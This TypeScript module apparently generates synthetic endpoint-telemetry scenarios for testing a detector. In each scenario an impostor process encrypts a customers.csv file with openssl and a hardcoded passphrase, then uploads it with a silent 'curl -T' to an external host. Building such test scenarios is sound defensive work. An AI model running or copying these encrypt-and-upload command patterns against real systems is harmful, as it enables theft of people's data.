/** The act that every impostor commits: a script encrypts collected data and starts a program that sends what was written. */
import { stem } from '../hosts/process-role.ts';
import { INTRUDER } from './impostor-program.ts';
import type { StoryProgram } from './impostor-program.ts';
import type { StoryPlace } from './impostor-place.ts';
import type { ProcessStep, StoryStep } from './story-step.ts';
import { DEFAULT_EXTERNAL, type Story, type StoryPlatform } from './story.ts';

export interface Scene {
  readonly id: string;
  readonly title: string;
  readonly platform: StoryPlatform;
  /** Name of the host. */
  readonly host: string;
  /** Milliseconds UTC. */
  readonly start: number;
  readonly program: StoryProgram;
  readonly place: StoryPlace;
  /** Bytes that leave. */
  readonly amount: number;
  /** The program sends nothing itself: it starts the tools that encrypt and send. */
  readonly viaTool?: boolean;
}

interface Tools {
  readonly shell: string;
  readonly openssl: string;
  readonly curl: string;
  readonly collected: string;
  readonly encrypted: string;
}

const TOOLS: Readonly<Record<StoryPlatform, Tools>> = {
  windows: {
    shell: 'C:\\Windows\\System32\\cmd.exe',
    openssl: 'C:\\Program Files\\Git\\usr\\bin\\openssl.exe',
    curl: 'C:\\Windows\\System32\\curl.exe',
    collected: 'C:\\Users\\eve\\Documents\\customers.csv',
    encrypted: `${INTRUDER.windows.folder}c.bin`,
  },
  macos: {
    shell: '/bin/bash',
    openssl: '/usr/bin/openssl',
    curl: '/usr/bin/curl',
    collected: '/Users/eve/Documents/customers.csv',
    encrypted: '/tmp/.c.bin',
  },
  linux: {
    shell: '/usr/bin/bash',
    openssl: '/usr/bin/openssl',
    curl: '/usr/bin/curl',
    collected: '/home/eve/customers.csv',
    encrypted: '/tmp/.c.bin',
  },
};

/** Handle of the process that sends. */
export const SENDER = 'sender';

export function impostorStory(scene: Scene): Story {
  const { id, title, platform, host, start, place } = scene;
  const isWindows = platform === 'windows';
  return {
    id,
    title,
    platform,
    description: title,
    hosts: {
      host: { name: host, addresses: ['10.20.1.31'], user: scene.program.user },
    },
    external: [...DEFAULT_EXTERNAL, ...(place.name === undefined ? [place.address] : [])],
    start: new Date(start).toISOString(),
    steps: scene.viaTool === true ? throughTool(scene) : byItself(scene, isWindows),
    expect: { nothingAbove: 'critical' },
  };
}

function byItself(scene: Scene, isWindows: boolean): StoryStep[] {
  const { program, platform } = scene;
  const tools = TOOLS[platform];
  return [
    { at: '0s', process: { as: 'job', image: program.parent ?? tools.shell, user: program.user } },
    ...encryption(tools, 'job'),
    { at: '1.5s', process: senderOf(scene, tools) },
    ...(isWindows ? loadOf(program, '1.6s') : []),
    ...transfer(scene, SENDER),
    { at: '27s', end: { process: 'job' } },
  ];
}

function throughTool(scene: Scene): StoryStep[] {
  const { program, platform, place } = scene;
  const tools = TOOLS[platform];
  return [
    { at: '0s', process: { ...senderOf(scene, tools), as: 'job', parent: undefined } },
    ...(platform === 'windows' ? loadOf(program, '0.1s') : []),
    ...encryption(tools, 'job'),
    {
      at: '1.5s',
      process: { as: SENDER, parent: 'job', ...run(tools.curl, uploadWords(tools, place)) },
    },
    ...transfer(scene, SENDER),
    { at: '27s', end: { process: 'job' } },
  ];
}

function encryption(tools: Tools, parent: string): StoryStep[] {
  const flags = ['enc', '-aes-256-cbc', '-salt', '-pbkdf2'];
  const files = ['-in', tools.collected, '-out', tools.encrypted, '-pass', 'pass:Winter2026'];
  return [
    { at: '0.4s', process: { as: 'openssl', parent, ...run(tools.openssl, [...flags, ...files]) } },
    { at: '0.9s', file: { process: 'openssl', path: tools.encrypted } },
    { at: '1.2s', end: { process: 'openssl' } },
  ];
}

function transfer({ place, amount }: Scene, process: string): StoryStep[] {
  const { name, address, port, protocol } = place;
  return [
    ...(name === undefined ? [] : [{ at: '1.7s', dns: { process, name, addresses: [address] } }]),
    {
      at: '1.8s',
      connect: {
        process,
        to: address,
        port,
        protocol,
        lasts: '24s',
        bytesOut: amount,
        bytesIn: 1_800,
        ...(name === undefined || protocol === 'udp' ? {} : { service: 'tls', serverName: name }),
      },
    },
    { at: '26s', end: { process } },
  ];
}

function senderOf(scene: Scene, tools: Tools): ProcessStep {
  const { image, script, argument, sha256, originalName, signed, user } = scene.program;
  // Started by its own first line (`#!`), so that the kernel names it; who adds arguments writes the interpreter first.
  const isNamed = script !== undefined && argument === undefined && scene.platform !== 'windows';
  return {
    as: SENDER,
    parent: 'job',
    user,
    ...run(image, senderWords(scene, tools)),
    ...(sha256 === undefined ? {} : { sha256 }),
    ...(originalName === undefined ? {} : { originalName }),
    ...(signed === undefined ? {} : { signed }),
    ...(isNamed ? { script } : {}),
  };
}

function senderWords({ program, platform, place }: Scene, tools: Tools): readonly string[] {
  const { image, script, argument } = program;
  if (script === undefined)
    return stem(image) === 'curl' ? uploadWords(tools, place) : ['upload', tools.encrypted];
  const option = platform === 'windows' ? ['-File'] : [];
  return [...option, script, ...(argument === undefined ? [] : [argument]), tools.encrypted];
}

function uploadWords(tools: Tools, { name, address, port }: StoryPlace): string[] {
  return ['-s', '-T', tools.encrypted, `https://${name ?? address}:${port}/in/`];
}

function loadOf({ image, loaded }: StoryProgram, at: string): StoryStep[] {
  return loaded === undefined
    ? []
    : [{ at, image: { process: at === '0.1s' ? 'job' : SENDER, module: image, ...loaded } }];
}

/** The same words as a command line and as a list of arguments, for systems that keep either. */
function run(
  image: string,
  words: readonly string[],
): Pick<ProcessStep, 'image' | 'commandLine' | 'arguments'> {
  const quoted = [image, ...words].map((word) => (/[\s"]/.test(word) ? `"${word}"` : word));
  return { image, commandLine: quoted.join(' '), arguments: [image, ...words] };
}
